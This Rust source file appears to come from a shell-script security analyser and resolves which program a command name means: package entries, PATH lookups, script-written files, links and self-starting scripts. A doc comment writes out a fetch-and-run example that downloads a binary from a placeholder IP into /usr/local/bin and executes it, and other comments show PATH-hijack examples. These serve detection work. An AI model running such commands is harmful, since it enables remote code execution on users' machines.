//! Which program a name means: an entry of the packs, a file in the folders of the search path, a file that the script
//! itself wrote, copied or linked.

use smallvec::SmallVec;

use crate::facts::Call;
use crate::facts::analysis::Analysis;
use crate::facts::knowledge::Entry;
use crate::facts::shell::ast::Span;
use crate::facts::snapshot::{Answer, Ask, Environment};
use crate::facts::targets::Look;
use crate::facts::targets::paths;
use crate::facts::targets::paths::{UNKNOWN_START, base_name, core};
use crate::facts::value::{Builder, Data, Field, Seg, Sink, Taint, Val};
use crate::limits;

/// As often a script that starts itself is read.
const MOST_STARTS: usize = 4;

impl<'a> Analysis<'a> {
    /// The entry of a program, also under a versioned name (`python3.11`, `mkfs.ext4`), as a package (`prisma@5`,
    /// `npm:rimraf@6`) or out of a flake (`nixpkgs#terraform`).
    pub fn find_entry(&self, program: &str) -> Option<&'static Entry<'static>> {
        if let Some(entry) = self.know.entry(program).or_else(|| self.know.entry(self.plain_name(program))) {
            return Some(entry);
        }
        if let Some(name) = program.strip_prefix("nixpkgs#").or_else(|| program.strip_prefix("npm:")) {
            return self.find_entry(name);
        }
        // Windows cares for no case: `REG ADD …`.
        if program.len() > 1 && program.bytes().all(|byte| byte.is_ascii_uppercase()) {
            let name = program.to_ascii_lowercase();
            return if self.know.lists().has("programs-of-windows", &name) { self.know.entry(&name) } else { None };
        }
        // As Windows writes a path.
        if let Some((_, name)) = program.rsplit_once('\\') {
            return self.find_entry(name);
        }
        let version = |text: &str| text.starts_with(|c: char| c.is_ascii_digit()) || matches!(text, "latest" | "next");
        if let Some((name, _)) = program.split_once('@').filter(|(_, text)| version(text)) {
            return self.know.entry(name);
        }
        if let Some((stem, _)) = program.split_once('.')
            && let Some(entry) = self.know.entry(stem)
            && !stem.is_empty()
            && !program.ends_with(".sh")
        {
            return Some(entry);
        }
        let stem = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.').trim_end_matches('-');
        let stem = program.strip_suffix(".exe").unwrap_or(stem);
        if stem.len() == program.len() || stem.is_empty() { None } else { self.know.entry(stem) }
    }

    /// What a program of GNU is called where nobody else has its name: `sed` of `gsed`.
    pub fn plain_name<'n>(&self, program: &'n str) -> &'n str {
        let plain = program.strip_prefix('g').filter(|plain| self.know.lists().has("gnu-programs", plain));
        plain.unwrap_or(program)
    }

    /// The name by which a program is spoken of that goes by several: `kubectl` for `kubecolor`, `sed` for `gsed`.
    pub fn known_as(&self, program: &'a str, root: Option<&'static Entry<'static>>) -> &'a str {
        let same = |root: &&Entry<'static>| {
            let lists = self.know.lists();
            root.name != program && (lists.has("same-programs", program) || root.name == self.plain_name(program))
        };
        root.filter(same).map_or(program, |root| root.name)
    }

    /// The program that a path names whose folder is not known, but is one of programs: `"$JAVA_HOME"/bin/java`,
    /// `$(npm bin)/rimraf`, `$NVM_BIN/node`.
    pub fn named_in_folder(&self, path: Val<'a>) -> Option<&'a str> {
        let Val::Text([.., before, Seg::Lit(end)]) = path else { return None };
        let Seg::Hole(hole) = before else { return None };
        let (folder, name) = end.rsplit_once('/')?;
        let source = hole.source.trim_end_matches(['}', '"', ')']);
        let called = source.get(source.len().saturating_sub(3)..).is_some_and(|end| end.eq_ignore_ascii_case("bin"));
        let of_programs = base_name(folder).ends_with("bin") || folder.is_empty() && called;
        let plain = !path.taint().has(Taint::NETWORK) && !path.taint().has(Taint::DECODED);
        (of_programs && plain && self.find_entry(name).is_some()).then_some(name)
    }

    /// Where `PATH` finds a program among the files that the script wrote: `PATH=/tmp/b:$PATH git`.
    pub fn in_search_path(&self, program: &'a str, settings: &[(&'a str, Val<'a>)]) -> Option<Val<'a>> {
        if !self.state.has_files() {
            return None;
        }
        let set = settings.iter().rev().find(|(name, _)| *name == "PATH").map(|(_, val)| *val);
        let Some(path) = set.or_else(|| self.state.var("PATH").map(|var| var.val)) else {
            return self.fetched_into_the_search_path(program);
        };
        self.folders_of(path).into_iter().find_map(|folder| {
            let path = self.within(folder, program);
            let name = self.overlay(path)?;
            // A link that the script made leads elsewhere.
            let cwd = self.state.cwd.lit().unwrap_or("");
            let leads = || path.lit().is_some_and(|path| paths::absolute(self.bump, cwd, path) != name);
            (self.state.file(name).is_some() || self.state.has_links() && leads()).then_some(path)
        })
    }

    /// The program of that name that the script put into a folder where programs are looked for, but for those that the
    /// makers of well-known tools give out: `curl -o /usr/local/bin/x http://203.0.113.9/x && chmod +x /usr/local/bin/x && x`.
    fn fetched_into_the_search_path(&self, program: &str) -> Option<Val<'a>> {
        const FOLDERS: [&str; 4] = ["/usr/local/bin", "/usr/bin", "~/.local/bin", "~/bin"];
        if program.is_empty() || program.contains('/') {
            return None;
        }
        let home = self.snapshot.home.as_str();
        FOLDERS.iter().find_map(|folder| {
            // Kept only where there is such a file: this is asked of every call.
            let path = match folder.strip_prefix('~') {
                Some(below) => format!("{home}{below}/{program}"),
                None => format!("{folder}/{program}"),
            };
            let file = self.state.file(&path)?;
            let known = file.data.taint.has(Taint::NETWORK) && !self.is_from_a_stranger(&file.data);
            (!known || self.is_from_nobody(&file.data)).then(|| Val::Lit(&*self.bump.alloc_str(&path)))
        })
    }

    /// The file of the project, or of a folder that everybody shares, that the search path finds before any folder of the
    /// system: `PATH=./bin:$PATH ls`. Of a path that nobody said here it is known only in the very environment that the
    /// action will have.
    pub fn in_own_folder(&mut self, program: &'a str, settings: &[(&'a str, Val<'a>)]) -> Option<&'a str> {
        if !self.place.local() || program.is_empty() {
            return None;
        }
        let set = settings.iter().rev().find(|(name, _)| *name == "PATH").map(|(_, val)| *val);
        let said = set.or_else(|| self.state.var("PATH").map(|var| var.val));
        let path = match (said, &self.snapshot.environment) {
            (Some(path), _) => path,
            (None, Environment::Exact) => Val::Lit(self.snapshot.variable("PATH")?),
            (None, _) => return None,
        };
        let folders = self.folders_of(path);
        let own = core::WORKSPACE | core::TEMPORARY;
        for folder in folders.into_iter().map_while(|folder| folder.lit()).take(limits::UNROLL) {
            let file: &'a str = match folder {
                "" | "." => self.bump.alloc_str(&format!("./{program}")),
                folder => self.bump.alloc_str(&format!("{}/{program}", folder.trim_end_matches('/'))),
            };
            let classes = self.path_target(Val::Lit(file), Look::Not).classes;
            if classes & own == 0 {
                continue;
            }
            let Some(absolute) = self.absolute(file) else { continue };
            match self.ask(&Ask::Path(absolute.to_owned())) {
                Answer::File => return Some(file),
                // `.venv/bin/python` leads to that of the system.
                Answer::Link(real) => {
                    let leads = self.path_target(Val::Lit(real), Look::Not).classes & own != 0;
                    return leads.then_some(file);
                }
                _ => {}
            }
        }
        None
    }

    /// The folders of a search path: `/tmp/b:$PATH`.
    pub fn folders_of(&self, path: Val<'a>) -> SmallVec<[Val<'a>; 4]> {
        let mut folders: SmallVec<[Builder<'a>; 4]> = SmallVec::new();
        let mut folder = Builder::default();
        for seg in path.segs(self.bump) {
            match seg {
                Seg::Lit(text) => {
                    for (index, part) in text.split(':').enumerate() {
                        if index > 0 {
                            folders.push(std::mem::take(&mut folder));
                        }
                        folder.push_lit(part);
                    }
                }
                Seg::Hole(_) => folder.push(self.bump, Val::Text(std::slice::from_ref(seg))),
            }
        }
        folders.push(folder);
        folders.into_iter().map(|folder| folder.done(self.bump)).collect()
    }

    /// The words of a command whose program is another in truth; one that is many is the one that it is called.
    fn in_the_place_of(&self, words: &'a [Field<'a>], program: &'a str) -> &'a [Field<'a>] {
        let program = Field { val: Val::Lit(program), derived: true, ..words[0] };
        let called = words[0].val.lit().map(base_name).filter(|called| !self.is_many(Val::Lit(called)));
        // Under a name that says nothing, the first word says which.
        match called.filter(|called| self.is_many(program.val) && self.know.entry(called).is_some()) {
            Some(called) => {
                let called = Field { val: Val::Lit(called), ..program };
                self.bump.alloc_slice_copy(&[&[program, called], &words[1..]].concat())
            }
            None => self.with_first(words, program),
        }
    }

    /// Whether a program is many, and which it is its name says: busybox.
    pub fn is_many(&self, program: Val<'_>) -> bool {
        program.lit().is_some_and(|path| self.know.lists().items("many-in-one").any(|name| name == base_name(path)))
    }

    /// A path that the script itself wrote, copied or linked is run.
    pub fn overlay_program(
        &mut self,
        path: Val<'a>,
        words: &'a [Field<'a>],
        settings: &'a [(&'a str, Val<'a>)],
        span: Span,
        stdin: &Data<'a>,
        out: &mut Sink<'a>,
    ) -> bool {
        if !self.state.has_files() || !self.place.local() {
            return false;
        }
        let (Some(absolute), path) = (self.overlay(path), path.show(self.bump)) else { return false };
        let Some(file) = self.state.file(absolute) else {
            // A link that the script made leads to another program.
            let cwd = self.state.cwd.lit().unwrap_or("");
            if absolute.contains(UNKNOWN_START) || paths::absolute(self.bump, cwd, path) == absolute {
                return false;
            }
            let copy = self.in_the_place_of(words, absolute);
            if self.depth >= limits::NESTING {
                return false;
            }
            self.depth += 1;
            self.external(copy, settings, stdin, out);
            self.depth -= 1;
            return true;
        };
        if let Some(original) = file.same_as {
            let copy = self.in_the_place_of(words, original);
            if original != path && self.depth < limits::NESTING {
                self.depth += 1;
                self.external(copy, settings, stdin, out);
                self.depth -= 1;
                return true;
            }
            return false;
        }
        if file.directory {
            return false;
        }
        // uv starts Python for such a file (uv's documentation, "Running scripts"), which is read as that.
        if absolute.ends_with(".py") && self.place.via.last() == Some(&"uv") {
            return true;
        }
        let path = self.bump.alloc_str(path);
        let starts = self.running.iter().filter(|running| **running == path).count();
        // One that starts itself was read already, if it is not given less and less.
        let fewer = self.starts.last().is_some_and(|given| words.len() - 1 < *given);
        if starts > MOST_STARTS && !fewer {
            return true;
        }
        let arguments: &'a [Val<'a>] = self.bump.alloc_slice_fill_iter(words[1..].iter().map(|f| f.val));
        let (before, known) = (self.state.arguments, self.state.arguments_known);
        // The last time it stands for all that follow, whatever they are given.
        let last = starts >= MOST_STARTS && !fewer;
        self.state.set_arguments(if last { &[] } else { arguments }, !last);
        let program = self.bump.alloc_str(base_name(path));
        let call = Call { program, path: Some(path), ..Call::unknown(words, self.place, span) };
        let index = self.facts.calls.len() as u32;
        self.facts.calls.push(call);
        let zero = self.zero.replace(Val::Lit(path));
        self.running.push(path);
        self.starts.push(words.len() - 1);
        self.in_another_process(false, |this| {
            this.program_data(&file.data, words[0].span, stdin, out, index);
            if let Some(older) = file.older {
                this.program_data(&Data::known(older), words[0].span, stdin, &mut Sink::new(), index);
            }
        });
        self.starts.pop();
        self.running.pop();
        self.zero = zero;
        self.state.set_arguments(before, known);
        // What it was before may be run instead.
        !file.perhaps
    }
}
